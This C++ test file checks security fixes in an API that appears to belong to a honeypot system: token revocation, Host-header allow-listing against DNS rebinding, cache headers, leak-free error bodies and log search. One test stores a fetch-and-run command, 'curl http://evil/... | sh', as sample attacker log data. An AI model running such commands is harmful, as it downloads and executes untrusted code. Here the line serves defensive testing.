// Issue 14, findings 6-9, against the Api on its own SQLite DB (each test may revoke, demote or delete
// users, so nothing is shared). Requests go through the real RequestParser.
#include <gtest/gtest.h>
#include <unistd.h>
#include <uv.h>

#include <atomic>
#include <cstdlib>
#include <thread>

#include "decnet/api/api.h"
#include "decnet/api/work_pool.h"
#include "decnet/core/json.h"
#include "decnet/http/request_parser.h"

namespace decnet::api {
namespace {

constexpr char kSecret[] = "unit-test-secret-0123456789";
constexpr char kAdminPw[] = "admin-password-1";

class ApiSecurityTest : public ::testing::Test {
 protected:
  void SetUp() override {
    char tmpl[] = "/tmp/decnet-api-sec-XXXXXX";
    dir_ = mkdtemp(tmpl);
    OpenDb(0);
    admin_uuid_ = AddUser("admin", kAdminPw, "admin");
    MakeApi();
  }
  void TearDown() override {
    api_.reset();
    repo_.reset();
    (void)!std::system(("rm -rf " + dir_).c_str());
  }
  void OpenDb(int migrate_to) {
    api_.reset();
    repo_.reset();
    storage::DbConfig cfg;
    cfg.path = dir_ + "/decnet.db";
    cfg.migrate_to = migrate_to;
    auto r = storage::Open(cfg);
    ASSERT_TRUE(r.has_value()) << r.error().message;
    repo_ = std::move(*r);
  }
  std::string AddUser(const std::string& name, const std::string& pw, const std::string& role) {
    storage::UserRow u;
    u.uuid = http::RandomHex(16);
    u.username = name;
    u.password_hash = *http::HashPassword(pw);
    u.role = role;
    EXPECT_TRUE(repo_->CreateUser(u).has_value());
    return u.uuid;
  }
  void MakeApi(Api::Offload offload = {}) {
    ApiOptions o;
    o.jwt_secret = kSecret;
    o.token_ttl_s = 3600;
    api_ = std::make_unique<Api>(*repo_, o, [](const std::string&, const std::string&, const std::string&) {},
                                 [this] { return now_; }, std::move(offload));
  }
  // Parses the request and hands it to Handle(); the answer lands in *out when it comes.
  void Send(const std::string& method, const std::string& target, const std::string& body, const std::string& token,
            std::function<void(http::Response)> out, const std::string& host = "127.0.0.1:8000") {
    std::string raw = method + " " + target + " HTTP/1.1\r\nHost: " + host + "\r\n";
    if (!token.empty()) raw += "Authorization: Bearer " + token + "\r\n";
    raw += "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
    http::RequestParser p;
    p.Feed(raw.data(), raw.size());
    ASSERT_EQ(p.state(), http::RequestParser::State::kComplete) << raw;
    p.request().peer_ip = "127.0.0.1";
    api_->Handle(p.request(), std::move(out));
  }
  http::Response Call(const std::string& method, const std::string& target, const std::string& body = "",
                      const std::string& token = "", const std::string& host = "127.0.0.1:8000") {
    http::Response r = http::Response::Error(599, "no answer");
    Send(method, target, body, token, [&r](http::Response x) { r = std::move(x); }, host);
    return r;
  }
  std::string Login(const std::string& user = "admin", const std::string& pw = kAdminPw) {
    auto r = Call("POST", "/api/v1/auth/login", R"({"username":")" + user + R"(","password":")" + pw + R"("})");
    EXPECT_EQ(r.status, 200) << r.body;
    rapidjson::Document d;
    EXPECT_TRUE(json::ParseObject(r.body, d).has_value());
    return std::string(json::GetString(d, "access_token"));
  }
  static std::string HeaderOf(const http::Response& r, const std::string& name) {
    for (auto& [k, v] : r.headers) {
      if (k == name) return v;
    }
    return "";
  }

  std::string dir_, admin_uuid_;
  std::unique_ptr<storage::Repository> repo_;
  std::unique_ptr<Api> api_;
  double now_ = 1800000000;
};

// Finding 7: revocations were a map in memory, so a restart brought every logged-out token back.
TEST_F(ApiSecurityTest, LogoutEndsEveryTokenOfTheUserAcrossARestart) {
  std::string a = Login(), b = Login();
  EXPECT_EQ(Call("GET", "/api/v1/auth/me", "", a).status, 200);
  EXPECT_EQ(Call("POST", "/api/v1/auth/logout", "", a).status, 200);
  EXPECT_EQ(Call("GET", "/api/v1/auth/me", "", a).status, 401);
  EXPECT_EQ(Call("GET", "/api/v1/auth/me", "", b).status, 401);  // the user's other session too
  MakeApi();  // a restart of the worker: same DB, fresh process state
  EXPECT_EQ(Call("GET", "/api/v1/auth/me", "", a).status, 401);
  EXPECT_EQ(Call("GET", "/api/v1/stats", "", b).status, 401);
  EXPECT_EQ(Call("GET", "/api/v1/auth/me", "", Login()).status, 200);
}

// Finding 7: a role change or a deleted user kept working until the token expired.
TEST_F(ApiSecurityTest, RoleChangeAndDeletionEndTokens) {
  std::string ops = AddUser("ops", "ops-password-1", "admin");
  std::string t = Login("ops", "ops-password-1");
  EXPECT_EQ(Call("POST", "/api/v1/workers/profiler/stop", "", t).status, 202);
  ASSERT_TRUE(repo_->SetUserRole(ops, "viewer").has_value());
  EXPECT_EQ(Call("POST", "/api/v1/workers/profiler/stop", "", t).status, 401);
  std::string t2 = Login("ops", "ops-password-1");
  EXPECT_EQ(Call("POST", "/api/v1/workers/profiler/stop", "", t2).status, 403);  // the role the DB says now
  ASSERT_TRUE(repo_->DeleteUser(ops).has_value());
  EXPECT_EQ(Call("GET", "/api/v1/auth/me", "", t2).status, 401);
  // A token minted before token versions existed (no "ver") is refused too.
  http::JwtClaims old;
  old.sub = admin_uuid_;
  old.username = "admin";
  old.role = "admin";
  old.iat = static_cast<int64_t>(now_);
  old.exp = old.iat + 600;
  EXPECT_EQ(Call("GET", "/api/v1/auth/me", "", http::SignJwt(old, kSecret)).status, 401);
}

// Finding 6: Argon2id ran inside Handle(), on the loop. Now Handle() returns with the check handed to
// the pool; the loop answers others meanwhile; a full pool answers 503 at once.
TEST_F(ApiSecurityTest, LoginHashesOffTheLoopWithABoundedQueue) {
  struct Job {
    std::function<void()> work, done;
  };
  std::vector<Job> parked;
  MakeApi([&parked](std::function<void()> work, std::function<void()> done) {
    if (parked.size() >= 2) return false;
    parked.push_back({std::move(work), std::move(done)});
    return true;
  });
  const std::string body = std::string(R"({"username":"admin","password":")") + kAdminPw + "\"}";
  std::vector<http::Response> answers;
  auto collect = [&answers](http::Response r) { answers.push_back(std::move(r)); };
  Send("POST", "/api/v1/auth/login", body, "", collect);
  Send("POST", "/api/v1/auth/login", body, "", collect);
  EXPECT_TRUE(answers.empty()) << "the password was checked on the loop";
  EXPECT_EQ(Call("GET", "/healthz").status, 200);  // the loop is free meanwhile
  auto busy = Call("POST", "/api/v1/auth/login", body);
  EXPECT_EQ(busy.status, 503);
  EXPECT_EQ(HeaderOf(busy, "Retry-After"), "1");
  EXPECT_EQ(api_->busy_refused(), 1u);
  std::thread other([&] {
    for (auto& j : parked) j.work();
  });
  other.join();
  EXPECT_TRUE(answers.empty());  // answers come only from `done`, on the loop
  for (auto& j : parked) j.done();
  ASSERT_EQ(answers.size(), 2u);
  EXPECT_EQ(answers[0].status, 200) << answers[0].body;
  EXPECT_EQ(HeaderOf(answers[0], "Cache-Control"), "no-store");
}

TEST(WorkPool, RunsWorkOffTheLoopAndDoneOnItBounded) {
  uv_loop_t loop;
  uv_loop_init(&loop);
  {
    WorkPool pool(&loop, 1, 2);
    const auto loop_thread = std::this_thread::get_id();
    std::atomic<bool> release{false};
    std::thread::id work_thread;
    int done = 0;
    bool done_on_loop = true;
    auto work = [&] {
      work_thread = std::this_thread::get_id();
      while (!release) std::this_thread::sleep_for(std::chrono::milliseconds(1));
    };
    auto on_done = [&] {
      done++;
      done_on_loop &= std::this_thread::get_id() == loop_thread;
    };
    EXPECT_TRUE(pool.Submit(work, on_done));
    EXPECT_TRUE(pool.Submit(work, on_done));
    EXPECT_FALSE(pool.Submit(work, on_done));  // two in hand: the third is refused, not queued
    EXPECT_EQ(pool.rejected(), 1u);
    release = true;
    uv_timer_t guard;  // keeps the loop turning until both answers are in
    uv_timer_init(&loop, &guard);
    guard.data = &done;
    uv_timer_start(&guard, [](uv_timer_t* t) {
      if (*static_cast<int*>(t->data) == 2) uv_timer_stop(t);
    }, 1, 1);
    uv_run(&loop, UV_RUN_DEFAULT);
    EXPECT_EQ(done, 2);
    EXPECT_TRUE(done_on_loop);
    EXPECT_NE(work_thread, loop_thread);
    EXPECT_EQ(pool.completed(), 2u);
    EXPECT_EQ(pool.pending(), 0u);
    pool.Close();
    uv_close(reinterpret_cast<uv_handle_t*>(&guard), nullptr);
    uv_run(&loop, UV_RUN_DEFAULT);
  }
  EXPECT_EQ(uv_loop_close(&loop), 0);
}

// Finding 8: DNS rebinding. A hostile page whose name resolves to 127.0.0.1 reaches the API with its
// own Host; only the names the API is meant to be reached by are answered.
TEST_F(ApiSecurityTest, HostHeaderAllowList) {
  api_->SetAllowedHosts({"127.0.0.1:8000", "localhost:8000", "[::1]:8000"});
  EXPECT_EQ(Call("GET", "/healthz", "", "", "rebind.evil.example:8000").status, 421);
  EXPECT_EQ(Call("POST", "/api/v1/auth/login", R"({"username":"admin","password":"x"})", "", "evil.example").status,
            421);
  EXPECT_EQ(Call("GET", "/healthz", "", "", "127.0.0.1:8000").status, 200);
  EXPECT_EQ(Call("GET", "/healthz", "", "", "LOCALHOST:8000").status, 200);
  EXPECT_EQ(Call("GET", "/healthz", "", "", "[::1]:8000").status, 200);
  EXPECT_EQ(Call("GET", "/healthz", "", "", "127.0.0.1:9999").status, 421);
  EXPECT_EQ(api_->host_refused(), 3u);
}

// Finding 8: tokens and attackers' data must not sit in a browser or proxy cache.
TEST_F(ApiSecurityTest, ApiAnswersAreNotCached) {
  auto login = Call("POST", "/api/v1/auth/login", std::string(R"({"username":"admin","password":")") + kAdminPw + "\"}");
  ASSERT_EQ(login.status, 200);
  EXPECT_EQ(HeaderOf(login, "Cache-Control"), "no-store");
  EXPECT_EQ(HeaderOf(Call("POST", "/api/v1/auth/login", "{}"), "Cache-Control"), "no-store");
  EXPECT_EQ(HeaderOf(Call("GET", "/api/v1/stats", "", Login()), "Cache-Control"), "no-store");
}

// Finding 8: a DB failure answered "database error: sqlite: no such table: ... (SELECT ...)".
TEST_F(ApiSecurityTest, ErrorBodiesCarryNoSql) {
  std::string t = Login();
  // The attackers table dropped behind the API's back: the query fails inside SQLite.
  api_.reset();
  repo_.reset();
  ASSERT_EQ(std::system(("sqlite3 " + dir_ + "/decnet.db 'DROP TABLE attackers' 2>/dev/null || python3 -c "
                         "\"import sqlite3; c=sqlite3.connect('" + dir_ + "/decnet.db'); "
                         "c.execute('DROP TABLE attackers'); c.commit()\"").c_str()),
            0);
  OpenDb(0);
  MakeApi();
  auto r = Call("GET", "/api/v1/attackers", "", t);
  EXPECT_GE(r.status, 500);
  for (const char* leak : {"sqlite", "SELECT", "attackers", "no such table"}) {
    EXPECT_EQ(r.body.find(leak), std::string::npos) << leak << " in " << r.body;
  }
}

// Finding 8: "%" and "_" in the attackers search were LIKE wildcards ("%" listed everyone).
TEST_F(ApiSecurityTest, AttackerSearchWildcardsAreLiteral) {
  for (const char* ip : {"10.0.0.1", "10.0.0.12", "192.0.2.5"}) {
    storage::AttackerRow a;
    a.ip = ip;
    a.first_seen_us = a.last_seen_us = 1;
    ASSERT_TRUE(repo_->UpsertAttacker(a).has_value());
  }
  std::string t = Login();
  auto count = [&](const std::string& q) {
    auto r = Call("GET", "/api/v1/attackers?search=" + q, "", t);
    EXPECT_EQ(r.status, 200) << r.body;
    rapidjson::Document d;
    EXPECT_TRUE(json::Parse(r.body, d).has_value());
    return d["items"].Size();
  };
  EXPECT_EQ(count("%25"), 0u);
  EXPECT_EQ(count("_"), 0u);
  EXPECT_EQ(count("10.0.0._"), 0u);
  EXPECT_EQ(count("10.0.0.1"), 2u);
}

// Finding 9: SQLite's LIKE stops at a NUL byte, so whatever an attacker wrote after one was invisible
// to the log search.
TEST_F(ApiSecurityTest, LogSearchSeesPastNulBytes) {
  storage::LogRow l;
  l.ts_us = 1000000;
  l.decky = "d1";
  l.service = "ssh";
  l.event_type = "command";
  l.attacker_ip = "192.0.2.9";
  l.msg = std::string("ls\0 ; curl http://evil/stage2-marker | sh", 42);
  l.raw_line = l.msg;
  ASSERT_TRUE(repo_->InsertLog(l).has_value());
  std::string t = Login();
  auto r = Call("GET", "/api/v1/logs?q=stage2-marker", "", t);
  ASSERT_EQ(r.status, 200) << r.body;
  rapidjson::Document d;
  ASSERT_TRUE(json::Parse(r.body, d).has_value());
  ASSERT_EQ(d["items"].Size(), 1u);
  EXPECT_EQ(std::string(d["items"][0]["msg"].GetString(), d["items"][0]["msg"].GetStringLength()), l.msg);
}

// Finding 9: three LIKE '%...%' scans ran on the loop for as long as they took. With a statement time
// limit the search fails fast (503, retry with narrower filters) instead of stalling SSE and /healthz.
TEST_F(ApiSecurityTest, LogSearchHasAStatementTimeLimit) {
  ASSERT_TRUE(repo_->Begin().has_value());
  std::vector<storage::LogRow> rows(1000);
  for (int batch = 0; batch < 200; ++batch) {
    for (size_t i = 0; i < rows.size(); ++i) {
      rows[i].ts_us = batch * 1000 + static_cast<int64_t>(i);
      rows[i].decky = "d";
      rows[i].service = "http";
      rows[i].event_type = "request";
      rows[i].attacker_ip = "192.0.2.1";
      rows[i].msg = std::string(200, 'a' + static_cast<char>(i % 26));
      rows[i].raw_line = rows[i].msg;
    }
    ASSERT_TRUE(repo_->InsertLogs(rows).has_value());
  }
  ASSERT_TRUE(repo_->Commit().has_value());
  std::string t = Login();
  repo_->SetStatementTimeout(1);  // 200,000 rows x 3 columns cannot be scanned in 1 ms
  auto r = Call("GET", "/api/v1/logs?q=not-in-any-row", "", t);
  EXPECT_EQ(r.status, 503) << r.body;
  EXPECT_NE(r.body.find("took too long"), std::string::npos) << r.body;
  repo_->SetStatementTimeout(0);
  EXPECT_EQ(Call("GET", "/api/v1/logs?q=not-in-any-row", "", t).status, 200);
}

}  // namespace
}  // namespace decnet::api
